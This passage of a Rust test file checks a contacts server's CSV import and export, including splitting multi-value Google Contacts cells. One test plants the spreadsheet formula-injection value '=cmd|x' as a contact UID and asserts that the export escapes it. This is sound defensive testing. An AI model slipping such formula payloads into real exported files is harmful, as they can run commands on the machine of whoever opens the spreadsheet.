    assert_eq!(cell("phone"), "+49 89 5555\n-5", "phone numbers stay as they are");

    // The same file again: nothing changes (the guard comes off on the way in); an edited one updates Paul.
    let (status, v) = import(&alice, "csv", &exported, "").await;
    assert_eq!((status, &v["created"], &v["unchanged"]), (200, &Value::from(0), &Value::from(1)), "{v}");
    assert_eq!(count(&alice).await, 1);
    let edited = exported.replace("Paul Phoneonly", "Paul Phone");
    let (status, v) = import(&alice, "csv", &edited, "").await;
    assert_eq!((status, &v["updated"], &rows(&v)[0]["match"]), (200, &Value::from(1), &Value::from("uid")), "{v}");
    let stored = stored(&alice, "paul.vcf").await;
    assert!(stored.contains("FN:Paul Phone\r\n"), "{stored}");
    assert!(stored.contains(&format!("TITLE:{}", formula.replace(',', "\\,"))), "{stored}");
    assert_eq!(count(&alice).await, 1);

    // A UID is text from outside too; and a card copied into a second book comes out twice with one UID: the
    // file still imports, the copy counted as the same contact.
    let uid = "=cmd|x";
    let card = vcard(uid, "Formula Uid", "EMAIL:f@example.org\r\n");
    assert!(alice.put(&format!("{}f.vcf", alice.book()), &card, &[]).await.status.is_success());
    assert_eq!(alice.send("MKCOL", &format!("{}second/", alice.home()), &[], Vec::new()).await.status, 201);
    assert!(alice.put(&format!("{}second/f.vcf", alice.home()), &card, &[]).await.status.is_success());
    let exported = alice.get("/api/v1/contacts/export?format=csv&purpose=Backup&bom=false").await.text();
    assert!(exported.contains(",'=cmd|x\r\n") && !exported.contains(",=cmd"), "{exported}");
    let (status, v) = import(&alice, "csv", &exported, "").await;
    assert_eq!((status, &v["rejected"], &v["created"]), (200, &Value::from(0), &Value::from(0)), "{v}");
    let again = rows(&v).iter().filter(|r| r["uid"] == uid).map(|r| r["action"].clone()).collect::<Vec<_>>();
    assert_eq!(again, [Value::from("unchanged"), Value::from("unchanged")], "{v}");
}

/// Google Contacts puts several e-mails or phones in one cell, joined by ` ::: `.
#[tokio::test]
async fn google_csv_cells_with_several_values_are_split() {
    let s = TestServer::start().await;
    let alice = s.user("alice").await;
    let csv = "Name,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Type,Phone 1 - Value\r\n\
               Gina Google,* Work,gina@work.example ::: gina@home.example,Mobile,+1 555 0100 ::: +1 555 0199\r\n";
    let (status, v) = import(&alice, "csv", csv, "").await;
    assert_eq!((status, &v["created"]), (200, &Value::from(1)), "{v}");
    let r = alice.get("/api/v1/contacts?q=gina").await;
    let list: Value = serde_json::from_slice(&r.body).expect("json");
    let item = &list["items"][0];
    let values = |field: &str| -> Vec<String> {
        item[field].as_array().into_iter().flatten().filter_map(|e| e["value"].as_str().map(str::to_string)).collect()
    };
    assert_eq!(values("emails"), ["gina@work.example", "gina@home.example"], "{item}");
    assert_eq!(values("phones"), ["+1 555 0100", "+1 555 0199"], "{item}");
}
